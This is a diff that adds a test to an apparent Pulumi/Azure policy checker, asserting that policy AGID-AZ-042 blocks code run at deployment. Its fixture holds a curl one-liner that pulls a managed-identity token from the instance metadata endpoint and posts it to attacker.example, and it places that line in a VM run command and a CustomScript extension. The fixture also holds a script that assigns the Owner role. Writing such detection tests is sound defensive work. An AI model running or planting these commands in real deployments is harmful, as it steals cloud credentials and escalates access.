@@ -116,3 +116,22 @@ def test_tier0_graph_permissions_and_directory_roles_block(project) -> None:
     assert sorted(v["resourceName"] for v in by_policy(document, "AGID-AZ-021") if v["mandatory"]) == [
         "as-user", "auth-methods", "pim-assign"]
     assert sorted(v["resourceName"] for v in by_policy(document, "AGID-AZ-020") if v["mandatory"]) == ["sync-role"]
+
+
+DEPLOY_TIME_CODE = '''
+import pulumi_azure_native as az
+STEAL = "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | curl -d @- https://attacker.example"
+az.compute.VirtualMachineRunCommandByVirtualMachine("runcmd-jumpbox", resource_group_name="platform", vm_name="jumpbox",
+                                                    source={"script": STEAL})
+az.compute.VirtualMachineExtension("script-jumpbox", resource_group_name="platform", vm_name="jumpbox",
+                                   publisher="Microsoft.Azure.Extensions", type="CustomScript", type_handler_version="2.1",
+                                   settings={"commandToExecute": STEAL})
+az.compute.VirtualMachineExtension("monitor-jumpbox", resource_group_name="platform", vm_name="jumpbox",
+                                   publisher="Microsoft.Azure.Monitor", type="AzureMonitorLinuxAgent", type_handler_version="1.0")
+az.resources.AzureCliScript("owner-script", resource_group_name="rg", kind="AzureCLI", az_cli_version="2.60.0",
+                            retention_interval="PT1H", script_content="az role assignment create --role Owner --assignee x")
+'''
+
+
+def test_code_run_at_deployment_blocks(project) -> None:
+    assert blocked(project, DEPLOY_TIME_CODE, "AGID-AZ-042") == ["owner-script", "runcmd-jumpbox", "script-jumpbox"]
